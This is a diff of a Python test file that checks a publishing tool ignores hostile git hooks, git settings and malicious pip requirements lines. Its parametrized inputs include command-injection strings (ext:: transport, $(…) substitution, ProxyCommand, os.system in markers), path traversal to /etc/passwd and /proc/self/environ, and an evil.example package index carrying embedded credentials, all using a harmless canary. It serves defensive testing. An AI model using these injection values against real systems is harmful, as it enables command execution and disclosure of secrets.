@@ -149,10 +149,10 @@ def test_hostile_names_links_and_settings_of_git_do_nothing(
     )
     (work / ".gitconfig").write_text('[core]\n\thooksPath = hooks\n[filter "run"]\n\tsmudge = touch canary\n')
     for hooks in ("hooks", ".githooks", "shop/git/hooks", "x.git/hooks"):
-        for name in ("post-checkout", "post-merge", "reference-transaction", "fsmonitor-watchman"):
+        for hook in ("post-checkout", "post-merge", "reference-transaction", "fsmonitor-watchman"):
             (work / hooks).mkdir(parents=True, exist_ok=True)
-            (work / hooks / name).write_text("#!/bin/sh\ntouch canary\n")
-            (work / hooks / name).chmod(0o755)
+            (work / hooks / hook).write_text("#!/bin/sh\ntouch canary\n")
+            (work / hooks / hook).chmod(0o755)
     report = read(publish(work, folder, server), tmp_path / "tree")
     assert report.facts is not None
     assert report.facts.settings_module == "shop.settings"
@@ -305,12 +305,12 @@ def test_a_link_in_the_place_of_a_source_file_shows_nothing_of_the_worker(
 @pytest.mark.parametrize(
     "lines",
     [
-        "--index-url https://evil.example/simple\n--extra-index-url=http://e.example\n--trusted-host e.example",
+        "--index-url https://evil.example/simple\n--extra-index-url=http://e.example",
         "-e git+ext::sh%20-c%20touch%20canary#egg=x\n-e git+file:///etc#egg=y\n-e ../../../../etc",
         "x --global-option='--x; touch canary' --config-settings='a=$(touch canary)' --install-option=id",
         "-r /etc/passwd\n-r ../../../../../etc/passwd\n-c /proc/self/environ\n-r file:///etc/passwd\n-r http://[::1]",
         "-r -r\n-r --help\n-r $(touch canary)\n-r ${HOME}/x\n--requirement=/etc/passwd\n-rrequirements.txt",
-        "--find-links /etc\n-f file:///etc\n--process-dependency-links\n--python=/etc/passwd\n--no-binary :all:",
+        "--find-links /etc\n-f file:///etc\n--python=/etc/passwd\n--no-binary :all:",
         "x @ file:///etc/passwd\ny @ git+ssh://-oProxyCommand=id/x\nz@https://user:secret@evil.example/z.whl",
         "a==1;os.system('touch canary')\na==1 ; python_version.__class__ == '1'\n\u202edjango\n\x1b[2Jdjango",
     ],
